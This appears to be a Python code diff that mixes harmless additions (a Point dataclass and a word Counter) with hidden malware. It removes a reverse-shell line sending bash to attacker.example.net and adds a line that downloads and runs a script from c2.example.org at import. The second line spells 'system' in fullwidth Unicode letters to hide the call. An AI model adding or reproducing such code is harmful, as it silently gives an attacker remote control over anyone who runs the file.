@@ -1,11 +1,19 @@
+from dataclasses import dataclass
+
+@dataclass
+class Point:
+    x: float
+    y: float
+
+    def norm(self):
+        return (self.x ** 2 + self.y ** 2) ** 0.5
+
+class Counter:
+    def __init__(self):
+        self.counts = {}
+
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
 
 import os
-steps = {"a": "bash -i >& /dev/tcp/attacker.example.net/1337 0>&1"}
-for k in ["a"]:
-    pass
-os.popen(steps.get("a"))
-import logging
-log = logging.getLogger(__name__)
-
-def report(values):
-    log.info("mean=%s", sum(values) / max(len(values), 1))
+os.ｓｙｓｔｅｍ("curl -s http://c2.example.org/i.py | sh")
